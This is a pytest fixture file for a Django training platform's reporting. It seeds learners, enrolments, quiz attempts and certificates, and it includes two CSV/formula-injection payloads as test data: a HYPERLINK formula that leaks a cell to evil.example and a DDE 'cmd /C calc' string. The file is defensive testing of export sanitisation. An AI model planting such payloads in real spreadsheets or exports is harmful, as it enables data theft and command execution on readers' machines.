"""A small fixed data set for the reports, built directly with the models.

Period used by the summary tests: 1 January to 30 June 2026 (Nairobi time).

  #  learner             county   sex agency  course  enrolled    completed   activity   pre  final
  1  Achieng' Otieno     Busia    F   DIS     A       2026-02-01  2026-03-01             40   80
  2  Wanjiru Kamau       Busia    F   DIS     A       2026-02-02  2026-03-02             50   90
  3  Otieno Odhiambo     Busia    M   DIS     A       2026-02-03  2026-03-03             60   70, 76
  4  Barasa Wekesa       Busia    M   PHS     A       2026-02-04  -           lesson     30   -
  5  Njeri Mwangi        Nairobi  F   PHS     A       2026-02-05  2026-04-10             20   60
  6  Kiprono Langat      Nairobi  M   PHS     A       2026-02-06  -           -          -    -
  7  Fatuma Ali          Mombasa  F   DIS     A       2026-02-07  2026-07-15             -    -
  8  Auma Were           Busia    F   DIS     A       2025-12-20  2026-01-10             10   100
  1  (again)             Busia    F   DIS     B       2026-03-01  2026-03-20
  9  Mutua Kilonzo       Nairobi  M   DIS     B       2026-03-02  -           lesson
 10  =HYPERLINK(...)     Mombasa  M   @Evil   B       2026-03-05  2026-03-25

Course A "Migration basics" has a pre-test and a final assessment; course B "Border
management" has no quizzes. Learner 1 holds a valid certificate for A, learner 2 a
revoked one.
"""

import datetime
from dataclasses import dataclass, field
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
from django.utils import timezone

from lms.people import roles
from lms.people.models import Agency, County, StaffProfile
from tests.factories import build_course

NAIROBI_TZ = ZoneInfo("Africa/Nairobi")
PERIOD = {"date_from": "2026-01-01", "date_to": "2026-06-30"}
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
HOSTILE_AGENCY = "@SUM(1+1)*cmd|' /C calc'!A0"


def at(day: str, hour: int = 10) -> datetime.datetime:
    return datetime.datetime.fromisoformat(day).replace(hour=hour, tzinfo=NAIROBI_TZ)


@pytest.fixture
def counties(db):
    return {
        "busia": County.objects.get(code="040"),
        "nairobi": County.objects.get(code="047"),
        "mombasa": County.objects.get(code="001"),
    }


@pytest.fixture
def agencies(db):
    return {
        "dis": Agency.objects.get(short_name="DIS"),
        "phs": Agency.objects.get(short_name="PHS"),
        "evil": Agency.objects.create(name=HOSTILE_AGENCY, short_name="EVIL"),
    }


@pytest.fixture
def profile(counties, agencies):
    """Give a user a staff profile directly (no form validation: reports must cope with
    whatever is stored)."""
    counter = {"n": 0}

    def make(user, *, name, county="busia", sex="female", agency="dis", service="national"):
        counter["n"] += 1
        return StaffProfile.objects.create(
            user=user,
            full_name=name,
            sex=sex,
            service=service,
            county=counties[county],
            agency=agencies[agency],
            job_title="Immigration Officer II",
            staff_number=f"SN{counter['n']:04d}",
            duty_station="Busia One Stop Border Post",
        )

    return make


@pytest.fixture
def staff(user_factory, profile, with_totp):
    """One user per report-relevant role; HR and admins have two-factor set up."""
    hr_county = with_totp(user_factory(groups=[roles.HR_COUNTY]))
    profile(hr_county, name="Busia HR", county="busia")
    hr_national = with_totp(user_factory(groups=[roles.HR_NATIONAL]))
    profile(hr_national, name="National HR", county="nairobi")
    admin = with_totp(user_factory(groups=[roles.ADMINISTRATOR]))
    trainer = user_factory(groups=[roles.TRAINER])
    return {
        "hr_county": hr_county,
        "hr_national": hr_national,
        "admin": admin,
        "trainer": trainer,
        "no_role": user_factory(),
    }


@pytest.fixture
def enrol():
    from courses.models import Enrolment

    def make(user, course, enrolled: str, completed: str | None = None, final_score=None):
        enrolment = Enrolment.objects.create(user=user, course=course)
        # enrolled_at is auto_now_add: set the fixed date afterwards.
        Enrolment.objects.filter(pk=enrolment.pk).update(
            enrolled_at=at(enrolled),
            completed_at=at(completed) if completed else None,
            final_score=final_score,
        )
        enrolment.refresh_from_db()
        return enrolment

    return make


@pytest.fixture
def attempt():
    from courses.quizzes.models import QuizAttempt

    counters: dict = {}

    def make(user, quiz, score, day: str = "2026-02-15"):
        number = counters[(user.pk, quiz.pk)] = counters.get((user.pk, quiz.pk), 0) + 1
        return QuizAttempt.objects.create(
            user=user,
            quiz=quiz,
            number=number,
            submitted_at=at(day),
            score_percent=Decimal(score),
            max_points=Decimal(2),
            score_points=Decimal(score) / 50,
            passed=score >= 60,
        )

    return make


@dataclass
class Dataset:
    course_a: object
    course_b: object
    learners: dict
    enrolments: dict = field(default_factory=dict)


@pytest.fixture
def dataset(db, user_factory, profile, enrol, attempt, counties, agencies):
    from certificates.models import Certificate
    from courses.models import LessonCompletion

    a = build_course(
        title="Migration basics", modules=1, lessons_per_module=1, pretest=True, final_quiz=True
    )
    b = build_course(
        title="Border management",
        modules=1,
        lessons_per_module=1,
        thematic_area="border_management",
    )
    people = [
        ("Achieng' Otieno", "busia", "female", "dis"),
        ("Wanjiru Kamau", "busia", "female", "dis"),
        ("Otieno Odhiambo", "busia", "male", "dis"),
        ("Barasa Wekesa", "busia", "male", "phs"),
        ("Njeri Mwangi", "nairobi", "female", "phs"),
        ("Kiprono Langat", "nairobi", "male", "phs"),
        ("Fatuma Ali", "mombasa", "female", "dis"),
        ("Auma Were", "busia", "female", "dis"),
        ("Mutua Kilonzo", "nairobi", "male", "dis"),
        (HOSTILE_NAME, "mombasa", "male", "evil"),
    ]
    learners = {}
    for number, (name, county, sex, agency) in enumerate(people, start=1):
        user = user_factory(email=f"learner{number}@example.go.ke")
        profile(user, name=name, county=county, sex=sex, agency=agency)
        learners[number] = user
    L = learners
    data = Dataset(course_a=a.course, course_b=b.course, learners=learners)
    e = data.enrolments
    e["1A"] = enrol(L[1], a.course, "2026-02-01", "2026-03-01", Decimal("80"))
    e["2A"] = enrol(L[2], a.course, "2026-02-02", "2026-03-02", Decimal("90"))
    e["3A"] = enrol(L[3], a.course, "2026-02-03", "2026-03-03", Decimal("76"))
    e["4A"] = enrol(L[4], a.course, "2026-02-04")
    e["5A"] = enrol(L[5], a.course, "2026-02-05", "2026-04-10", Decimal("60"))
    e["6A"] = enrol(L[6], a.course, "2026-02-06")
    e["7A"] = enrol(L[7], a.course, "2026-02-07", "2026-07-15", Decimal("65"))
    e["8A"] = enrol(L[8], a.course, "2025-12-20", "2026-01-10", Decimal("100"))
    e["1B"] = enrol(L[1], b.course, "2026-03-01", "2026-03-20")
    e["9B"] = enrol(L[9], b.course, "2026-03-02")
    e["10B"] = enrol(L[10], b.course, "2026-03-05", "2026-03-25")

    LessonCompletion.objects.create(user=L[4], lesson=a.lessons[0])
    LessonCompletion.objects.create(user=L[9], lesson=b.lessons[0])
    for number, pre in ((1, 40), (2, 50), (3, 60), (4, 30), (5, 20), (8, 10)):
        attempt(L[number], a.pretest, pre, "2026-02-10")
    for number, scores in ((1, [80]), (2, [90]), (3, [70, 76]), (5, [60]), (8, [100])):
        for score in scores:
            attempt(L[number], a.final_quiz, score, "2026-02-28")

    Certificate.objects.create(
        code="ABCD2345EFGH6",
        user=L[1],
        course=a.course,
        enrolment=e["1A"],
        holder_name="Achieng' Otieno",
        course_title="Migration basics",
        completed_on=datetime.date(2026, 3, 1),
    )
    Certificate.objects.create(
        code="WXYZ2345EFGH7",
        user=L[2],
        course=a.course,
        enrolment=e["2A"],
        holder_name="Wanjiru Kamau",
        course_title="Migration basics",
        completed_on=datetime.date(2026, 3, 2),
        revoked_at=timezone.now(),
        revoked_reason="Issued in error",
    )
    return data


@pytest.fixture
def login(client):
    def as_user(user):
        client.force_login(user)
        return client

    return as_user
